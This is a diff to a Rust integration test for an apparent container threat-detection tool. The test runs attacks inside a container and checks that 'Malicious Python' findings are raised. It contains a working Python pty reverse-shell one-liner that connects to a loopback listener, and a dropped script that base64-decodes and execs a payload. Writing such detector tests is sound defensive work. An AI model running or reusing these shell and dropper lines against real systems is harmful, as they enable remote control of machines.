@@ -728,7 +728,74 @@ fn attacks_inside_a_real_container() {
     let _ = conn.read_to_string(&mut out);
     assert!(out.contains("uid=0"), "{out}");
     shell.wait().unwrap();
+
+    // A Python reverse shell (the classic pty one-liner) to another loopback listener, and a
+    // dropped script that decodes and runs a payload: the malicious-Python model scores both.
+    let py_listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let py_port = py_listener.local_addr().unwrap().port();
+    let py_code = format!(
+        "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',{py_port}));\
+         [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
+    );
+    let mut py_shell = c.spawn(&["/usr/bin/python3", "-c", &py_code]);
+    let (mut py_conn, _) = py_listener.accept().unwrap();
+    py_conn
+        .set_read_timeout(Some(Duration::from_secs(10)))
+        .unwrap();
+    // A shell builtin only, so that no command execution adds findings of its own.
+    py_conn.write_all(b"echo shrike-$((6*7))\nexit\n").unwrap();
+    let mut py_out = String::new();
+    let _ = py_conn.read_to_string(&mut py_out);
+    assert!(py_out.contains("shrike-42"), "{py_out}");
+    py_shell.wait().unwrap();
+    let dropped = "import base64\nexec(base64.b64decode('cHJpbnQoJ3B3bmVkJyk='))\n";
+    let drop_run = c.exec(&[
+        "sh",
+        "-c",
+        &format!("printf '%s' \"{dropped}\" > /tmp/drop.py && /usr/bin/python3 /tmp/drop.py"),
+    ]);
+    assert!(
+        String::from_utf8_lossy(&drop_run.stdout).contains("pwned"),
+        "{}",
+        String::from_utf8_lossy(&drop_run.stderr)
+    );
     let stopped = watch.stop();
+
+    let python = in_container(&stopped, "MALICIOUS_PYTHON_EXECUTED", &c);
+    let by_how = |how: &str| {
+        python
+            .iter()
+            .find(|f| f["finding"]["sourceProperties"]["Python_Invocation"] == how)
+            .copied()
+            .unwrap_or_else(|| panic!("no Malicious Python ({how}): {:#?}", stopped.findings))
+    };
+    let inline = by_how("-c");
+    let props = &inline["finding"]["sourceProperties"];
+    assert!(props["Python_Score"].as_f64().unwrap() >= props["Python_Threshold"].as_f64().unwrap());
+    assert!(
+        props["Python_Reasons"].as_str().unwrap().contains("dup2"),
+        "{props}"
+    );
+    assert_eq!(
+        inline["finding"]["processes"][0]["script"]["contents"],
+        py_code.as_str()
+    );
+    assert_container_fields(inline, &c);
+    let script = by_how("script");
+    assert_eq!(
+        script["finding"]["processes"][0]["script"]["path"],
+        "/tmp/drop.py"
+    );
+    assert_eq!(
+        script["finding"]["processes"][0]["script"]["contents"],
+        dropped
+    );
+    use sha2::Digest as _;
+    assert_eq!(
+        script["finding"]["processes"][0]["script"]["sha256"],
+        hex::encode(sha2::Sha256::digest(dropped.as_bytes()))
+    );
+    assert_eq!(python.len(), 2, "only the two attacks: {python:#?}");
 
     let check_binary = |module: &str, path: &str, sha: &str, layer: &str, comment: &str| {
         let hits = in_container(&stopped, module, &c);
@@ -835,7 +902,8 @@ fn attacks_inside_a_real_container() {
         + in_container(&stopped, "MODIFIED_MALICIOUS_BINARY_EXECUTED", &c).len()
         + compilers.len()
         + shells.len()
-        + commands.len();
+        + commands.len()
+        + python.len();
     let all_in_container = stopped
         .findings
         .iter()
